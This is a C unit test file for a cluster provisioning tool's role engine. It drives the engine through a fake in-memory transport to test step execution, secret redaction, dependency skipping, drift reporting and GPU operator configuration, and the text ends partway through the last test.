/*
 * Unit tests for plan.c (the role engine) with a fake transport.
 *
 * The fake never runs anything: it recognises provision's requests (the
 * facts script, a step's `check`/`apply`, the file checks before an upload)
 * and answers from an in-memory model of each node, so that the engine's
 * logic -- check/apply/check, ::set and ::secret, redaction, barriers,
 * failures that stop only their node, plan changing nothing -- is tested
 * without a network.  Real nodes are tested by tests/t0*.sh.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "plan.h"
#include "template.h"
#include "transport.h"

#define SECRET_VALUE "hunter2-SuperSecret-0042"

/* admin.conf as kubeadm writes it for the control plane cp (198.18.0.10, port 6443). */
#define KUBECONFIG_HEAD                                                                            \
	"apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: Q0EK\n"            \
	"    server: https://198.18.0.10:6443\n  name: kubernetes\ncontexts:\n- context:\n"        \
	"    cluster: kubernetes\n    user: kubernetes-admin\n"                                    \
	"  name: kubernetes-admin@kubernetes\ncurrent-context: kubernetes-admin@kubernetes\n"      \
	"kind: Config\npreferences: {}\nusers:\n- name: kubernetes-admin\n  user:\n"
#define KUBECONFIG_GOOD                                                                            \
	KUBECONFIG_HEAD "    client-certificate-data: Q0VSVAo=\n    client-key-data: S0VZCg==\n"

/* ---- the fake nodes ---- */

struct fake_node {
	char name[32];
	bool unreachable;
	bool fail_apply;   /* step maybe-fail: apply exits 1 */
	const char *fail_line; /* its last line (default: an apt error) */
	bool fail_plain;   /* step plain: apply exits 1 */
	bool desired[16];  /* per fake step kind */
	/*
	 * A hostile node (issue 19): lines it adds to the output of its facts,
	 * of its gossip step and of its joiner step, '\n'-separated.
	 */
	const char *evil_facts, *evil_gossip, *evil_joiner;
	const char *kubeconfig; /* what `cat` of admin.conf gives (default: kubeadm's shape) */
	char seen[1024]; /* joiner: the join command it read; labels: the labels handed to it */
	char files[4][128];
	char shas[4][65];
	unsigned nr_files;
	unsigned applies, checks, puts;
};

static struct fake_node fake_nodes[8];
static size_t nr_fake_nodes;
static pthread_mutex_t fake_lock = PTHREAD_MUTEX_INITIALIZER;

static const char *const step_kinds[] = {"plain",  "secret", "maybe-fail", "after",
					 "ordered", "tokens", "fetch",	    "gossip",
					 "joiner",  "labels", NULL};

struct transport {
	struct fake_node *node;
};

static struct fake_node *fake_find(const char *name)
{
	size_t i;
	for (i = 0; i < nr_fake_nodes; i++)
		if (!strcmp(fake_nodes[i].name, name))
			return &fake_nodes[i];
	return NULL;
}

static int fake_connect(struct transport **out, const struct transport_target *t,
			struct error *err)
{
	struct fake_node *n = fake_find(t->name);

	if (!n || n->unreachable)
		return error_set(err, TRANSPORT_ERR_REFUSED, "connection to '%s' refused", t->name);
	*out = xcalloc(1, sizeof(**out));
	(*out)->node = n;
	return 0;
}

static void say(const struct transport_exec *req, const char *line)
{
	req->on_line(req->ctx, TRANSPORT_STDOUT, line, strlen(line), 0);
}

/*
 * Say each '\n'-separated line of lines, through the transport's own line
 * splitter (channel mode): a line longer than TRANSPORT_LINE_MAX arrives in
 * pieces, as from a real node.
 */
static void say_lines(const struct transport_exec *req, const char *lines)
{
	struct transport_frame fr;

	if (!lines)
		return;
	transport_frame_init(&fr, TRANSPORT_STDOUT, NULL, req->on_line, req->ctx);
	transport_frame_feed(&fr, lines, strlen(lines));
	transport_frame_finish(&fr);
	transport_frame_release(&fr);
}

/* The values of every `export PROVISION_SET_<prefix>...` line of a step's input, in out. */
static void seen_exports(char *out, size_t size, const char *in, const char *prefix)
{
	char pat[96];
	const char *p = in;
	size_t used = 0;

	snprintf(pat, sizeof(pat), "export PROVISION_SET_%s", prefix);
	out[0] = '\0';
	while ((p = strstr(p, pat))) {
		const char *nl = strchr(p, '\n');
		size_t len = nl ? (size_t)(nl - p) : strlen(p);
		used += (size_t)snprintf(out + used, used < size ? size - used : 0, "%.*s\n",
					 (int)len - 7, p + 7);
		if (used >= size)
			break;
		p += len;
	}
}

/*
 * The handed secret NAME as a step's input writes it to its file
 * (plan_env.c: `printf '%s' 'VALUE' >"$PROVISION_SECRETS/NAME" ...`), as
 * "secret NAME='VALUE'" lines in out, after any export of it as
 * "export PROVISION_SET_NAME=..." (there must be none).
 */
static void seen_secret(char *out, size_t size, const char *in, const char *name)
{
	char pat[96];
	const char *p = in;
	size_t used = 0;

	snprintf(pat, sizeof(pat), "export PROVISION_SET_%s=", name);
	out[0] = '\0';
	for (p = in; (p = strstr(p, pat)); p++)
		used += (size_t)snprintf(out + used, used < size ? size - used : 0, "export %s\n",
					 name);
	snprintf(pat, sizeof(pat), " >\"$PROVISION_SECRETS/%s\"", name);
	for (p = in; used < size && (p = strstr(p, pat)); p++) {
		const char *bol = p;
		while (bol > in && bol[-1] != '\n')
			bol--;
		if (strncmp(bol, "printf '%s' ", 12))
			continue;
		used += (size_t)snprintf(out + used, used < size ? size - used : 0,
					 "secret %s=%.*s\n", name, (int)(p - bol - 12), bol + 12);
	}
}

static int fake_exec(struct transport *t, const struct transport_exec *req,
		     struct transport_result *res, struct error *err)
{
	struct fake_node *n = t->node;
	const char *in = req->input ? req->input : "";
	char words[4][160];
	const char *marker;

	memset(res, 0, sizeof(*res));
	if (!strncmp(in, "PROVISION_PEERS=", 16)) { /* facts.sh behind its environment */
		char line[128];
		say(req, "facts_version=1");
		say(req, "os_id=debian");
		say(req, "os_version=12");
		say(req, "cpus=4");
		say(req, "mem_kib=8000000");
		snprintf(line, sizeof(line), "machine_id=%032zx", (size_t)(n - fake_nodes) + 1);
		say(req, line);
		say_lines(req, n->evil_facts);
		return 0;
	}
	if (!strncmp(req->command, "cat -- '/etc/kubernetes/admin.conf'", 35)) {
		say_lines(req, n->kubeconfig ? n->kubeconfig : KUBECONFIG_GOOD);
		return 0;
	}
	if (!strncmp(req->command, "cat -- '", 8)) { /* a ::fetch */
		char line[256];
		snprintf(line, sizeof(line), "content of %.*s on %s",
			 (int)strcspn(req->command + 8, "'"), req->command + 8, n->name);
		say(req, line);
		return 0;
	}
	/* set -- DEST SHA MODE OWNER, the helpers, then pv_same, pv_prepare (up) or pv_diff (plan) */
	if (!strncmp(req->command, "set -- ", 7) && strstr(req->command, "\npv_same \"$@\"\n")) {
		unsigned i;
		if (sscanf(req->command + 7, "'%159[^']' '%159[^']'", words[0], words[1]) != 2)
			return error_set(err, -1, "fake: cannot parse '%.60s'", req->command);
		res->exit_status = 1;
		pthread_mutex_lock(&fake_lock);
		for (i = 0; i < n->nr_files; i++)
			if (!strcmp(n->files[i], words[0]) && !strcmp(n->shas[i], words[1]))
				res->exit_status = 0;
		pthread_mutex_unlock(&fake_lock);
		return 0;
	}
	if (!strncmp(req->command, "set -- ", 7) &&
	    (strstr(req->command, "\npv_prepare \"$1\" \"$2\"") ||
	     strstr(req->command, "\npv_diff \"$1\"\n"))) {
		unsigned i;
		bool diff = !strstr(req->command, "\npv_prepare \"$1\" \"$2\"");
		if (sscanf(req->command + 7, "'%159[^']' '%159[^']'", words[0], words[1]) != 2)
			return error_set(err, -1, "fake: cannot parse '%.60s'", req->command);
		pthread_mutex_lock(&fake_lock);
		for (i = 0; i < n->nr_files; i++) {
			if (strcmp(n->files[i], words[0]))
				continue;
			if (!diff && !strcmp(n->shas[i], words[1])) {
				pthread_mutex_unlock(&fake_lock);
				return 0;
			}
			break;
		}
		pthread_mutex_unlock(&fake_lock);
		if (diff) {
			/* The fake cannot diff: report a change unless the file is there. */
			if (i < n->nr_files)
				return 0;
			say(req, "new file");
		}
		res->exit_status = 1;
		return 0;
	}
	if (!strcmp(req->command, "test -f /etc/kubernetes/admin.conf")) {
		res->exit_status = 1; /* no cluster on these fake nodes */
		return 0;
	}
	marker = strstr(in, "# fake-step: ");
	if (marker && strstr(req->command, ". /dev/stdin")) { /* set -- check|apply && . /dev/stdin */
		char kind[32] = "";
		bool apply = strstr(req->command, "-- apply") != NULL;
		size_t k;

		sscanf(marker + 13, "%31s", kind);
		for (k = 0; step_kinds[k]; k++)
			if (!strcmp(kind, step_kinds[k]))
				break;
		if (!step_kinds[k])
			return error_set(err, -1, "fake: unknown step kind '%s'", kind);
		pthread_mutex_lock(&fake_lock);
		if (apply)
			n->applies++;
		else
			n->checks++;
		pthread_mutex_unlock(&fake_lock);
		if (!strcmp(kind, "tokens"))
			say(req, "::secret join_command@w-3=kubeadm join 198.18.0.10:6443 --token good.token0000");
		if (!strcmp(kind, "fetch")) {
			say(req, "::fetch /etc/kubernetes/admin.conf admin.conf");
			res->exit_status = 0;
			return 0;
		}
		if (!strcmp(kind, "gossip")) {
			say_lines(req, n->evil_gossip);
			res->exit_status = 0;
			return 0;
		}
		if (!strcmp(kind, "joiner")) {
			char line[128];
			seen_secret(n->seen, sizeof(n->seen), in, "join_command");
			snprintf(line, sizeof(line), "::set node_labels_%c_%c=%s honest", n->name[0],
				 n->name[2], n->name);
			say(req, line);
			say_lines(req, n->evil_joiner);
			res->exit_status = 0;
			return 0;
		}
		if (!strcmp(kind, "labels")) {
			seen_exports(n->seen, sizeof(n->seen), in, "node_labels_");
			res->exit_status = 0;
			return 0;
		}
		if (!strcmp(kind, "secret")) {
			say(req, "::secret token=" SECRET_VALUE);
			say(req, "the token is " SECRET_VALUE " (a careless step)");
			say(req, "::set plain_value=visible");
		}
		if (!apply) {
			res->exit_status = n->desired[k] ? 0 : 1;
			return 0;
		}
		if (!strcmp(kind, "plain") && n->fail_plain) {
			say(req, "E: no space left on device");
			res->exit_status = 1;
			return 0;
		}
		if (!strcmp(kind, "maybe-fail") && n->fail_apply) {
			say(req,
			    n->fail_line ? n->fail_line : "E: the package cannot be installed");
			say(req, "::hint free some disk space");
			res->exit_status = 1;
			return 0;
		}
		n->desired[k] = true;
		return 0;
	}
	return error_set(err, -1, "fake: unexpected command '%.60s'", req->command);
}

static int fake_put(struct transport *t, const char *path, const void *data, size_t len,
		    unsigned mode, const char *owner, bool *skipped, struct error *err)
{
	struct fake_node *n = t->node;
	unsigned i;

	pthread_mutex_lock(&fake_lock);
	for (i = 0; i < n->nr_files; i++)
		if (!strcmp(n->files[i], path))
			break;
	if (i == n->nr_files)
		snprintf(n->files[n->nr_files++], sizeof(n->files[0]), "%s", path);
	transport_sha256_hex(n->shas[i], data, len);
	n->puts++;
	pthread_mutex_unlock(&fake_lock);
	if (memmem(data, len, SECRET_VALUE, strlen(SECRET_VALUE)) == NULL)
		fail_msg("the rendered file did not receive the handed secret");
	*skipped = false;
	return 0;
}

static void fake_stats(struct transport *t, struct transport_stats *st)
{
	memset(st, 0, sizeof(*st));
	st->mode = "fake";
}

static void fake_close(struct transport *t)
{
	free(t);
}

static const struct transport_ops fake_ops = {
	"fake", fake_connect, fake_exec, fake_put, NULL, fake_stats, fake_close,
};

/* ---- running plan_execute on them ---- */

static const char inventory_text[] = "cluster:\n"
				     "  name: unit\n"
				     "  kubernetes_version: \"1.30.4\"\n"
				     "ssh:\n"
				     "  user: root\n"
				     "nodes:\n"
				     "  - name: cp\n"
				     "    address: 198.18.0.10\n"
				     "    roles: [control-plane]\n"
				     "  - name: w-[1-3]\n"
				     "    address: 198.18.0.[11-13]\n"
				     "    roles: [worker]\n";

struct collected {
	struct strbuf all; /* every event, one per line, for leak checks */
	unsigned ends[8];  /* STEP_END count per result */
	/* EVENT_FACTS per node, and what the facts said (os_pretty, the record's text) */
	unsigned facts[8];
	char facts_pretty[8][64], facts_text[8][512];
	unsigned roles[8], roles_on[8]; /* EVENT_ROLES per node, and its roles taken part in */
};

static void collect(const struct event *ev, const struct node_status *st, void *data)
{
	struct collected *c = data;

	strbuf_addf(&c->all, "%zu %d %s %s %s\n", ev->node, ev->kind, ev->role ? ev->role : "-",
		    ev->step ? ev->step : "-", ev->text ? ev->text : "-");
	if (ev->kind == EVENT_STEP_END && ev->result < 8)
		c->ends[ev->result]++;
	if (ev->kind == EVENT_FACTS && ev->node < 8) {
		assert_non_null(ev->facts);
		c->facts[ev->node]++;
		snprintf(c->facts_pretty[ev->node], sizeof(c->facts_pretty[0]), "%s",
			 ev->facts->os_pretty ? ev->facts->os_pretty : "");
		snprintf(c->facts_text[ev->node], sizeof(c->facts_text[0]), "%s",
			 ev->facts->text ? ev->facts->text : "(none)");
	}
	if (ev->kind == EVENT_ROLES && ev->node < 8) {
		size_t k;
		c->roles[ev->node]++;
		for (k = 0; k < ev->nr_roles; k++)
			c->roles_on[ev->node] += ev->roles[k];
	}
}

struct fixture {
	struct inventory *inv;
	struct role_set rs;
	const struct node *nodes[8];
	size_t nr;
	const char *state_dir; /* NULL: none */
	char state_buf[32];
};

static int setup_roles(void **state, const char *name)
{
	struct fixture *f = xcalloc(1, sizeof(*f));
	struct diag_list dl;
	const char *dir = getenv("PROVISION_TEST_DATA");
	char *roles = xasprintf("%s/../tests/unit/data/%s", dir ? dir : "tests", name);
	size_t i;

	if (!dir) {
		free(roles);
		roles = xasprintf("tests/unit/data/%s", name);
	}
	diag_list_init(&dl);
	if (inventory_load_buffer(&f->inv, "unit.yaml", inventory_text, strlen(inventory_text),
				  &dl) < 0)
		fail_msg("inventory: %s", dl.nr ? dl.items[0].msg : "?");
	if (role_set_load(&f->rs, roles, &dl) < 0)
		fail_msg("roles: %s", dl.nr ? diag_format(&dl.items[0]) : "?");
	diag_list_release(&dl);
	free(roles);
	f->nr = f->inv->nr_nodes;
	memset(fake_nodes, 0, sizeof(fake_nodes));
	nr_fake_nodes = f->nr;
	for (i = 0; i < f->nr; i++) {
		f->nodes[i] = &f->inv->nodes[i];
		snprintf(fake_nodes[i].name, sizeof(fake_nodes[i].name), "%s", f->nodes[i]->name);
	}
	*state = f;
	return 0;
}

static int setup(void **state)
{
	return setup_roles(state, "roles");
}

/* The roles of tests/unit/data/roles-exchange: hand-overs between nodes (issue 19). */
static int setup_exchange(void **state)
{
	struct fixture *f;

	setup_roles(state, "roles-exchange");
	f = *state;
	snprintf(f->state_buf, sizeof(f->state_buf), "/tmp/test_plan.XXXXXX");
	assert_non_null(mkdtemp(f->state_buf));
	f->state_dir = f->state_buf;
	return 0;
}

static void remove_state(const char *dir)
{
	char *cmd = xasprintf("rm -rf '%s'", dir);
	assert_int_equal(system(cmd), 0);
	free(cmd);
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	if (f->state_dir)
		remove_state(f->state_dir);
	role_set_release(&f->rs);
	inventory_free(f->inv);
	free(f);
	return 0;
}

static bool execute_drift; /* the next execute() is `check`: drift and validation */

static void execute(struct fixture *f, bool check_only, struct secrets *sec, struct collected *c,
		    struct plan_result *res)
{
	struct plan_opts o = {
		.drift = execute_drift,
		.validate = execute_drift,
		.inv = f->inv,
		.roles = &f->rs,
		.nodes = f->nodes,
		.nr = f->nr,
		.phases = plan_all_phases(),
		.check_only = check_only,
		.forks = 2, /* fewer workers than nodes: the window must not deadlock on barriers */
		.secrets = sec,
		.state_dir = f->state_dir,
		.ops = &fake_ops,
		.consumers = {.c = {{collect, NULL, c}}, .nr = 1},
	};

	memset(c, 0, sizeof(*c));
	assert_int_equal(plan_execute(&o, res), 0);
}

static void test_role_order(void **state)
{
	struct fixture *f = *state;

	assert_int_equal(f->rs.nr, 4);
	assert_string_equal(f->rs.roles[0].name, "alpha");
	assert_string_equal(f->rs.roles[1].name, "beta");
	assert_string_equal(f->rs.roles[2].name, "delta");
	assert_string_equal(f->rs.roles[3].name, "gamma");
	/* delta (after beta) starts a second pass; gamma (wait_for beta) joins it. */
	assert_int_equal(plan_segment_end(&f->rs, 0), 2);
	assert_int_equal(plan_segment_end(&f->rs, 2), 4);
	assert_int_equal(f->rs.roles[0].nr_steps, 2);
	assert_string_equal(f->rs.roles[0].steps[1].name, "20-secret");
}

static void test_up_then_unchanged(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;
	size_t i;

	execute(f, false, sec, &c, &res);
	assert_int_equal(res.ok, 4);
	assert_int_equal(res.failed, 0);
	/* 4 nodes x (alpha 2 steps + beta file + beta step + delta step + gamma step) changed. */
	assert_int_equal(c.ends[STEP_CHANGED], 4 * 6);
	for (i = 0; i < 4; i++)
		assert_int_equal(fake_nodes[i].puts, 1);
	/* The secret reached the file but no event. */
	assert_null(strstr(c.all.buf, SECRET_VALUE));
	assert_non_null(strstr(c.all.buf, "the token is [secret] (a careless step)"));
	plan_result_release(&res);
	strbuf_release(&c.all);

	execute(f, false, sec, &c, &res);
	assert_int_equal(res.ok, 4);
	assert_int_equal(c.ends[STEP_CHANGED], 0);
	assert_int_equal(c.ends[STEP_UNCHANGED], 4 * 6);
	for (i = 0; i < 4; i++)
		assert_int_equal(fake_nodes[i].puts, 1); /* not re-sent */
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

static void test_failure_stops_only_its_node(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;

	fake_nodes[2].fail_apply = true; /* w-2 */
	execute(f, false, sec, &c, &res);
	assert_int_equal(res.failed, 1);
	assert_int_equal(res.ok, 3);
	assert_int_equal(res.status[2].state, NODE_FAILED);
	assert_non_null(strstr(res.status[2].reason, "beta › 10-maybe-fail: apply failed (exit 1)"));
	assert_non_null(strstr(res.status[2].reason, "hint: free some disk space"));
	/* gamma waits for beta everywhere: skipped on the other nodes, with the reason. */
	assert_int_equal(c.ends[STEP_SKIPPED], 3);
	assert_non_null(strstr(c.all.buf, "waits for role 'beta', which failed on 1 node"));
	/* delta only comes after beta: it runs on the three other nodes all the same. */
	assert_int_equal(fake_nodes[0].desired[4] + fake_nodes[1].desired[4] +
				 fake_nodes[2].desired[4] + fake_nodes[3].desired[4],
			 3);
	assert_false(fake_nodes[2].desired[4]);
	/* w-2: alpha 2 + beta's file; the others: alpha 2 + file + beta + delta. */
	assert_int_equal(c.ends[STEP_CHANGED], 3 + 3 * 5);
	assert_null(strstr(c.all.buf, SECRET_VALUE));
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/*
 * Issue 33: a role that did not run on a node (the node stopped at an
 * earlier role) did not fail there: a role waiting for it says so, and why,
 * instead of "which failed on 1 node".
 */
static void test_wait_for_a_role_that_did_not_run(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;

	fake_nodes[2].fail_plain = true; /* w-2 stops at alpha: beta never runs there */
	execute(f, false, sec, &c, &res);
	assert_int_equal(res.failed, 1);
	assert_int_equal(res.status[2].state, NODE_FAILED);
	assert_non_null(strstr(res.status[2].reason, "alpha › 10-plain: apply failed (exit 1)"));
	assert_null(strstr(c.all.buf, "waits for role 'beta', which failed"));
	assert_non_null(strstr(c.all.buf, "waits for role 'beta', which was skipped on w-2 (w-2 "
					  "stopped earlier: role 'alpha' failed there)"));
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/*
 * A role skipped on a node (gamma waits for beta, which did not run on w-2)
 * is not there for the roles that depend on it on that node: epsilon
 * (depends_on gamma) is skipped too, saying why, instead of running without
 * it (t0450: gpu-operator ran after helm was skipped, 'helm: not found').
 */
static int setup_depends(void **state)
{
	return setup_roles(state, "roles-depends");
}

static void test_depends_on_a_skipped_role(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;

	fake_nodes[2].fail_plain = true; /* w-2 stops at alpha: beta never runs there */
	execute(f, false, sec, &c, &res);
	assert_non_null(strstr(c.all.buf, "waits for role 'beta', which was skipped on w-2"));
	assert_non_null(strstr(c.all.buf, "needs role 'gamma', which was skipped on cp"));
	assert_null(strstr(c.all.buf, "epsilon › 10-after … changed"));
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

static void test_plan_changes_nothing(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;
	size_t i;

	execute(f, true, sec, &c, &res);
	assert_int_equal(res.ok, 4);
	for (i = 0; i < 4; i++) {
		assert_int_equal(fake_nodes[i].applies, 0);
		assert_int_equal(fake_nodes[i].puts, 0);
		assert_true(res.nodes[i].changed >= 4);
	}
	assert_int_equal(c.ends[STEP_WOULD_CHANGE], 4 * 6);
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/*
 * Issue 33: on nodes where beta was never installed (its only file is not
 * there), check listed the file as drift; and an artifact's row had an
 * empty observed value.  A role none of whose files is on the node is "not
 * installed yet", one warning per node; the roles without files that would
 * change stay drift.
 */
static void test_drift_not_installed(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;
	size_t i, warn = 0;

	execute_drift = true;
	execute(f, true, sec, &c, &res);
	execute_drift = false;
	for (i = 0; i < res.validation.nr; i++) {
		const struct check *k = &res.validation.items[i];
		if (strcmp(k->id, "drift"))
			continue;
		assert_null(strstr(k->observed, "/etc/hello.conf"));
		assert_true(k->observed[strlen(k->observed) - 1] != ' ');
		if (k->status == CHECK_WARN) {
			warn++;
			assert_string_equal(k->observed, "not installed yet: beta (none of their "
							 "files is on the node)");
			assert_string_equal(k->fix, "'provision up' installs them");
		} else {
			assert_int_equal(k->status, CHECK_FAIL);
			assert_null(strstr(k->observed, "beta"));
		}
	}
	assert_int_equal(warn, 4);
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

static void test_unreachable_node(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;

	fake_nodes[1].unreachable = true;
	execute(f, false, sec, &c, &res);
	assert_int_equal(res.unreachable, 1);
	assert_int_equal(res.status[1].state, NODE_UNREACHABLE);
	assert_non_null(strstr(res.status[1].reason, "connection to 'w-1' refused"));
	/* The barrier counts only the nodes that take part: the others finish gamma. */
	assert_int_equal(res.ok, 3);
	assert_int_equal(c.ends[STEP_SKIPPED], 0);
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/* provision check: facts and validation only; every node must end done. */
static void test_check_leaves_nodes_done(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c = {0};
	struct plan_opts o = {
		.inv = f->inv,
		.roles = &f->rs,
		.nodes = f->nodes,
		.nr = f->nr,
		.phases = 0,
		.validate = true,
		.forks = 2,
		.secrets = sec,
		.ops = &fake_ops,
		.consumers = {.c = {{collect, NULL, &c}}, .nr = 1},
	};
	size_t i;

	assert_int_equal(plan_execute(&o, &res), 0);
	for (i = 0; i < f->nr; i++)
		assert_int_equal(res.status[i].state, NODE_DONE);
	assert_int_equal(res.cancelled, 0);
	assert_int_equal(res.ok, f->nr);
	/* The fake facts have no containerd (2 checks a node fail) and no cluster. */
	assert_true(res.validation.nr > f->nr);
	assert_int_equal(validation_failures(&res.validation), 1 + 2 * f->nr);
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

static size_t node_index(const struct fixture *f, const char *name);

/*
 * The plan parses a node's facts once and hands them to the views in an
 * event (EVENT_FACTS), parsed from the redacted output: a secret a node
 * echoes in its facts reaches no view; the record's form drops the keys
 * that move by themselves.  Before: no such event (every view parsed the
 * output lines again).
 */
static void test_facts_event(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c = {.all = STRBUF_INIT};
	unsigned node_phases[8];
	struct plan_opts o = {
		.inv = f->inv,
		.roles = &f->rs,
		.nodes = f->nodes,
		.nr = f->nr,
		.phases = plan_all_phases(),
		.node_phases = node_phases,
		.check_only = true,
		.forks = 2,
		.secrets = sec,
		.ops = &fake_ops,
		.consumers = {.c = {{collect, NULL, &c}}, .nr = 1},
	};
	size_t i, w1 = node_index(f, "w-1");

	for (i = 0; i < f->nr; i++) /* as add-node: w-1 takes part in no phase */
		node_phases[i] = i == w1 ? 0 : ~0u;
	assert_int_equal(secrets_add(sec, "hunter2hunter2", 14), 0);
	fake_find("w-1")->evil_facts = "os_pretty=Debian hunter2hunter2\nmem_available_kib=42";
	assert_int_equal(plan_execute(&o, &res), 0);
	for (i = 0; i < f->nr; i++) {
		assert_int_equal(c.facts[i], 1);
		/* the roles the plan runs there, said once (EVENT_ROLES) */
		assert_int_equal(c.roles[i], 1);
		if (i == w1)
			assert_int_equal(c.roles_on[i], 0);
		else
			assert_true(c.roles_on[i] > 0);
	}
	assert_int_equal(res.nodes[w1].nr_steps, 0); /* and ran none of them */
	assert_string_equal(c.facts_pretty[w1], "Debian " SECRETS_MASK);
	assert_string_equal(res.nodes[w1].facts.os_pretty, "Debian " SECRETS_MASK);
	assert_null(strstr(c.facts_text[w1], "hunter2"));
	assert_null(strstr(c.facts_text[w1], "mem_available_kib"));
	assert_non_null(strstr(c.facts_text[w1], "machine_id="));
	fake_find("w-1")->evil_facts = NULL;
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

static void test_phases(void **state)
{
	unsigned bits = 0;
	struct error err = {0};

	assert_int_equal(plan_parse_phases("facts,prep", &bits, &err), 0);
	assert_int_equal(bits, PHASE_BIT(PHASE_PREP));
	assert_int_equal(plan_parse_phases("all", &bits, &err), 0);
	assert_int_equal(bits, plan_all_phases());
	assert_int_equal(plan_parse_phases("prep,swap", &bits, &err), -1);
	assert_string_equal(err.msg, "unknown phase 'swap'");
}

/* roles/gpu-operator's values for GPU nodes with and without a working driver. */
static void test_gpu_values(void **state)
{
	struct node n[3] = {{0}};
	const struct node *nodes[3] = {&n[0], &n[1], &n[2]};
	struct gpu g = {(char *)"NVIDIA GeForce GTX 1080 Ti", 11264, (char *)"535.154.05", NULL};
	char *pci[] = {(char *)"0000:01:00.0 0x2484", NULL};
	struct facts f0 = {0}, f1 = {0}, f2 = {0};
	const struct facts *facts[3] = {&f0, &f1, &f2};
	struct strbuf tmpl = STRBUF_INIT, out = STRBUF_INIT;
	struct error err = {0};
	struct tval *v;
	const char *cdi;

	(void)state;
	n[0].name = (char *)"b-0";
	n[1].name = (char *)"b-2";
	n[2].name = (char *)"b-4";
	n[0].gpus = n[1].gpus = n[2].gpus = -1;
	f1.gpus = &g;
	f1.nr_gpus = 1;
	f1.nvidia_smi = true;
	f2.nvidia_pci = pci; /* b-4: on the PCI bus, nvidia-smi fails */
	f2.nr_nvidia_pci = 1;
	f2.nvidia_smi = true;
	f2.nvidia_smi_rc = 9;
	assert_int_equal(read_file("roles/gpu-operator/templates/values.yaml.tmpl", &tmpl), 0);

	v = tval_new_map();
	plan_gpu_values(v, nodes, facts, 3);
	assert_string_equal(tval_lookup(v, "gpu.names")->str, "b-2 b-4");
	assert_string_equal(tval_lookup(v, "gpu.node_count")->str, "2");
	assert_string_equal(tval_lookup(v, "gpu.host_driver")->str, "");
	/*
	 * Issue 31 F10: b-4's facts say its driver does not answer.  Before,
	 * that put the driver container on every GPU node; now on b-4 only
	 * (roles/node-labels labels b-2 nvidia.com/gpu.deploy.driver=false).
	 */
	assert_non_null(tval_lookup(v, "gpu.driver_nodes"));
	assert_string_equal(tval_lookup(v, "gpu.driver_nodes")->str, "b-4");
	assert_int_equal(template_render_text("values.yaml.tmpl", tmpl.buf, tmpl.len, v, &out, &err), 0);
	assert_non_null(strstr(out.buf, "container,\n  # on those only (\"b-4\"): roles/node-labels labels\n"));
	assert_non_null(strstr(out.buf, "#   b-2: 1x \"NVIDIA GeForce GTX 1080 Ti\", host driver \"535.154.05\"\n"));
	assert_non_null(strstr(out.buf, "#   b-4: 1x \"NVIDIA PCI device 0x2484\", host driver not working\n"));
	assert_non_null(strstr(out.buf, "driver:\n  # a GPU node has no working host driver: the operator's driver container,\n"));
	assert_non_null(strstr(out.buf, "on the others\n  enabled: true\n"));
	assert_non_null(strstr(out.buf, "toolkit:\n  enabled: true\n"));
	/* the toolkit edits a file containerd never reads, and never restarts it */
	assert_non_null(strstr(out.buf, "value: /var/lib/provision/nvidia-toolkit/containerd.toml\n"));
	assert_non_null(strstr(out.buf, "value: /var/lib/provision/nvidia-toolkit/conf.d/99-nvidia.toml\n"));
	/* toolkit v1.17 and later read RUNTIME_RESTART_MODE only */
	assert_non_null(strstr(out.buf, "- name: RUNTIME_RESTART_MODE\n      value: none\n"));
	assert_null(strstr(out.buf, "- name: CONTAINERD_RESTART_MODE\n"));
	assert_null(strstr(out.buf, "  defaultRuntime:"));
	/* CDI (the v26 default) off: GPUs in NVIDIA_VISIBLE_DEVICES, under the nvidia runtime */
	cdi = strstr(out.buf, "\ncdi:\n");
	assert_non_null(cdi);
	assert_non_null(strstr(cdi, "  enabled: "));
	assert_int_equal(strncmp(strstr(cdi, "  enabled: "), "  enabled: false\n", 17), 0);
	assert_non_null(strstr(out.buf, "  runtimeClass: nvidia\n"));
	assert_null(strstr(out.buf, "/etc/containerd/conf.d"));
	tval_free(v);

	strbuf_reset(&out);
	f2.nvidia_pci = NULL; /* b-4 without a GPU: every GPU node's driver works */
	f2.nr_nvidia_pci = 0;
	v = tval_new_map();
	plan_gpu_values(v, nodes, facts, 3);
	assert_string_equal(tval_lookup(v, "gpu.host_driver")->str, "true");
	assert_string_equal(tval_lookup(v, "gpu.driver_nodes")->str, "");
	assert_int_equal(template_render_text("values.yaml.tmpl", tmpl.buf, tmpl.len, v, &out, &err), 0);
	assert_non_null(strstr(out.buf, "driver:\n  # every GPU node has a working host driver: no driver container\n  enabled: false\n"));
	assert_null(strstr(out.buf, "b-4"));
	tval_free(v);

	strbuf_reset(&out);
	f1.gpus = NULL; /* no GPU at all */
	f1.nr_gpus = 0;
	v = tval_new_map();
	plan_gpu_values(v, nodes, facts, 3);
	assert_string_equal(tval_lookup(v, "gpu.names")->str, "");
